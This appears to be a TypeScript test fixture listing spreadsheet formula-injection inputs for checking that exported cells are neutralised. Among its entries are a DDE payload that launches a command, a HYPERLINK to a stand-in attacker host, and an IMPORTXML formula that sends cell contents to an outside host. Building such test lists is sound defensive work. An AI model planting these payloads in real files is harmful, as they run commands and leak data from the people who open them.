const STARTS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
const BEFORE = ['', ' ', '   ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\n', '\u202e'];
/** What spreadsheets take for formulas and commands, behind everything that they skip (trust I3). */
export const FORMULAS: readonly string[] = [
  ...STARTS.flatMap((start) => BEFORE.map((before) => `${before}${start}1+1`)),
  '=HYPERLINK("http://evil.example","Click")',
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd|...',
  '-2+3+cmd|x!A0',
  '+6591234567',
  '=IMPORTXML(CONCAT("http://a.example/?",A1),"//a")',
  '\t=1+1',
  '-',
  '=',
];
